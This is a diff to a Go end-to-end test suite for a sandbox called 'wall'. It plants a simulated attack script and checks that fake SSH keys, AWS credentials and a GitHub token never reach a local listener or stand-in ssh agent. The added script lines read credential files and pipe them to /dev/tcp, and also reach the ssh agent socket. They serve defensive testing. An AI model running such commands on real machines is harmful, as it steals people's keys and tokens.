@@ -1,11 +1,16 @@
 package e2e
 
 import (
+	"io"
+	"net"
 	"os"
 	"os/exec"
 	"path/filepath"
+	"strconv"
 	"strings"
+	"sync"
 	"testing"
+	"time"
 
 	"github.com/sayso-dev/sayso/internal/testenv"
 	"github.com/sayso-dev/sayso/internal/wall"
@@ -51,8 +56,78 @@ echo outside > "@OUTSIDE@/outside.txt"
 "@SAYSO@" login </dev/null > login.txt 2>&1
 cp "@SAYSO@" tools/s
 cp /bin/true "@HOOK@"
+bash -c '{ cat ~/.ssh/id_ed25519 ~/.aws/credentials; echo "token:$GITHUB_TOKEN"; } 2>/dev/null > /dev/tcp/127.0.0.1/@PORT@' 2>/dev/null
+python3 -c 'import os, socket; s = socket.socket(socket.AF_UNIX); s.connect(os.environ["SSH_AUTH_SOCK"]); s.sendall(b"sign")' 2>/dev/null
 exit 0
 `
+
+// leak is what an attack sends out: a listener on 127.0.0.1 that keeps
+// what it receives, and a stand-in for the person's ssh agent that counts
+// who reached it.
+type leak struct {
+	port  int
+	agent string
+	mu    sync.Mutex
+	got   []byte
+	signs int
+}
+
+// secrets the attack tries to send; none may arrive from inside the wall.
+var secrets = []string{"ssh-private-key-e2e", "aws-secret-e2e", "ghp_e2e_token"}
+
+func newLeak(t *testing.T, dir string) *leak {
+	t.Helper()
+	l := &leak{agent: filepath.Join(dir, "agent.sock")}
+	ln, err := net.Listen("tcp", "127.0.0.1:0")
+	must(t, err)
+	t.Cleanup(func() { ln.Close() })
+	l.port = ln.Addr().(*net.TCPAddr).Port
+	go func() {
+		for {
+			c, err := ln.Accept()
+			if err != nil {
+				return
+			}
+			go func() {
+				defer c.Close()
+				_ = c.SetReadDeadline(time.Now().Add(30 * time.Second))
+				b, _ := io.ReadAll(c)
+				l.mu.Lock()
+				l.got = append(l.got, b...)
+				l.mu.Unlock()
+			}()
+		}
+	}()
+	agent, err := net.Listen("unix", l.agent)
+	must(t, err)
+	t.Cleanup(func() { agent.Close() })
+	go func() {
+		for {
+			c, err := agent.Accept()
+			if err != nil {
+				return
+			}
+			l.mu.Lock()
+			l.signs++
+			l.mu.Unlock()
+			c.Close()
+		}
+	}()
+	return l
+}
+
+// sent says whether any secret reached the listener, and whether the
+// agent was reached.
+func (l *leak) sent() (secret, signed bool) {
+	l.mu.Lock()
+	defer l.mu.Unlock()
+	for _, s := range secrets {
+		if strings.Contains(string(l.got), s) {
+			secret = true
+		}
+	}
+	return secret, l.signs > 0
+}
 
 // plantAttack writes the attack script into the world's project, and the
 // files it aims at, so their change can be seen.
@@ -72,8 +147,17 @@ func plantAttack(t *testing.T, w *world, hook string) {
 	must(t, err)
 	t.Cleanup(func() { os.RemoveAll(outside) })
 	w.outside = outside
+	w.leak = newLeak(t, w.root)
+	// The person's keys and tokens, and their ssh agent, as the client
+	// hands them to every step.
+	must(t, os.MkdirAll(filepath.Join(w.home, ".ssh"), 0o700))
+	must(t, os.WriteFile(filepath.Join(w.home, ".ssh", "id_ed25519"), []byte(secrets[0]+"\n"), 0o600))
+	must(t, os.MkdirAll(filepath.Join(w.home, ".aws"), 0o700))
+	must(t, os.WriteFile(filepath.Join(w.home, ".aws", "credentials"), []byte("aws_secret_access_key = "+secrets[1]+"\n"), 0o600))
+	w.env = append(w.env, "GITHUB_TOKEN="+secrets[2], "SSH_AUTH_SOCK="+w.leak.agent)
 	must(t, os.MkdirAll(filepath.Join(w.proj, "tools"), 0o755))
-	must(t, os.WriteFile(filepath.Join(w.proj, "tools", "x.sh"), []byte(strings.NewReplacer("@OUTSIDE@", outside, "@HOOK@", hook, "@SAYSO@", sayso).Replace(attack)), 0o755))
+	must(t, os.WriteFile(filepath.Join(w.proj, "tools", "x.sh"), []byte(strings.NewReplacer("@OUTSIDE@", outside, "@HOOK@", hook, "@SAYSO@", sayso,
+		"@PORT@", strconv.Itoa(w.leak.port)).Replace(attack)), 0o755))
 	must(t, os.WriteFile(filepath.Join(w.home, ".bashrc"), []byte("# the person's\n"), 0o644))
 	must(t, os.MkdirAll(filepath.Join(w.home, ".config", "sayso"), 0o700))
 	must(t, os.MkdirAll(w.state, 0o700))
@@ -126,15 +210,24 @@ func changed(w *world) []string {
 	if b, err := os.ReadFile(w.hook); err != nil || len(b) < 1<<20 {
 		out = append(out, "replaced the installed forwarder")
 	}
+	// What left: give the listener a moment to read what was sent.
+	time.Sleep(200 * time.Millisecond)
+	secret, signed := w.leak.sent()
+	if secret {
+		out = append(out, "sent the person's keys or tokens to a listener")
+	}
+	if signed {
+		out = append(out, "reached the person's ssh agent")
+	}
 	return out
 }
 
-const attackChanges = 13
+const attackChanges = 15
 
 // TestWallPositiveControl: the checks see every change when the script
 // runs outside the wall, as the person would run it.
 func TestWallPositiveControl(t *testing.T) {
-	needTools(t, "sh")
+	needTools(t, "sh", "bash", "python3")
 	w := newWorld(t)
 	hook := filepath.Join(w.root, "sayso-hook-copy")
 	b, err := os.ReadFile(saysoHook)
